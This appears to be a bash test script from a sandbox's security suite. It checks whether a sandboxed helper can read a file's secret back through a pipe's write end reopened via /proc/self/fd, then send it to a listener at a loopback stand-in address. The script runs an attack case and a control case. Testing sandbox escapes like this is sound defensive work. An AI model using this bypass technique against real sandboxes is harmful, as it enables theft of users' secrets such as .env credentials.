#!/bin/bash
# The late mark's scan skips a pipe whose descriptor in the sandbox is its write end
# only ("a pipe's write end is no holder"), but the sandbox can read that pipe back by
# opening /proc/self/fd/<write end> for reading. A file's page spliced into the pipe
# before the file became a secret is read after the user writes the secret into it.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.79.9.1
D=$R9/pipe-write-end-reopened; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W $H
gcc -O1 -o $W/wohold $D/wohold.c
outside() { # the user's tool: rename draft to .env, then write the secret into it in place
  for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; [ -e $W/ready ] || return; mv $W/draft $W/.env; sleep 0.5
  printf "SECRET-ENV-$1\n" | dd of=$W/.env conv=notrunc status=none; }
try() { # try NAME [control]
  printf 'draft-draft-draft-draft-draft\n' > $W/draft; rm -f $W/.env $W/ready
  outside $1 & CPID=$!; shift
  CLAWLESS_TRACE_DISCOVERY=1 run $H $W ./wohold $IP draft 3 "$@" 2>&1 | grep -v "^clawless: discovery\|walk"; wait $CPID
  echo "--- .env now: $(cat $W/.env)"; }
listen $IP $D/out-attack.txt
echo "== attack: the page is held by a pipe whose only descriptor is its write end"; try attack
verdict $D/out-attack.txt SECRET-ENV-attack
listen $IP $D/out-control.txt
echo "== control: the read end kept (a pipe with data queued: a holder)"; try control control
verdict $D/out-control.txt SECRET-ENV-control
